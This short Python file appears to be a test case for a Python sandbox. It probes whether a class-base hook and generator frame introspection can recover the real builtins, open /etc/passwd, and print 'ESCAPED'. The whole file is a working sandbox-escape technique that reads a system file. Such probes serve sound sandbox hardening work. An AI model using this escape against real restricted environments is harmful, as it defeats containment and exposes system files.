# tries: a base that turns into others
# class: classes
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


class B:
    def __mro_entries__(self, bases):
        return (type((x for x in ()).gi_frame.f_code.co_consts),)


class C(B()):
    pass


use(pick((x for x in ()).gi_frame) if C.__mro__[1] is tuple else None)
